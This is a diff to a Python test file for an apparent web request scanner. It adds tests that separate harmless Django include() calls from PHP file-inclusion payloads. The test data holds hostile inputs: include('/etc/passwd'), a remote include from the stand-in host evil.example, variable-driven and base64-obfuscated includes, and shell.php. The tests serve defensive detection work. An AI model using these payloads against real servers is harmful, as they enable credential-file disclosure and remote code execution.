@@ -498,6 +498,20 @@ def test_a_character_a_filter_looks_for_escaped_twice_is_still_double_encoding(q
     assert "double_encoding" in names(scan_parts(query_string=query))
 
 
+@pytest.mark.parametrize("text", ["path('clients/', include('app_name.urls'))",
+                                  "include('blog.urls', namespace='blog')", "const fs = require('fs')"])
+def test_djangos_include_of_a_module_is_no_php_include(text):
+    result = scan_parts(body=f"snippet={quote(text, safe='')}".encode(), content_type=FORM)
+    assert "php_code" not in names(result) and result.score < BLOCK, result.hits
+
+
+@pytest.mark.parametrize("value", ["include('/etc/passwd')", "include('http://evil.example/x.txt')",
+                                   "include($_GET['p'])", "require_once('config.php')", "include('shell.php')",
+                                   "include(base64_decode('aW5kZXg='))"])
+def test_a_php_include_of_a_path_url_variable_or_script_still_blocks(value):
+    assert "php_code" in names(scan_parts(query_string="q=" + quote(value, safe="")))
+
+
 def test_a_scanner_name_counts_in_headers_only():
     assert "scanner_user_agent" in names(scan_parts(headers={"User-Agent": "Mozilla/5.00 (Nikto/2.1.6)"}))
     assert scan_parts(query_string="q=how+to+use+sqlmap").score < BLOCK
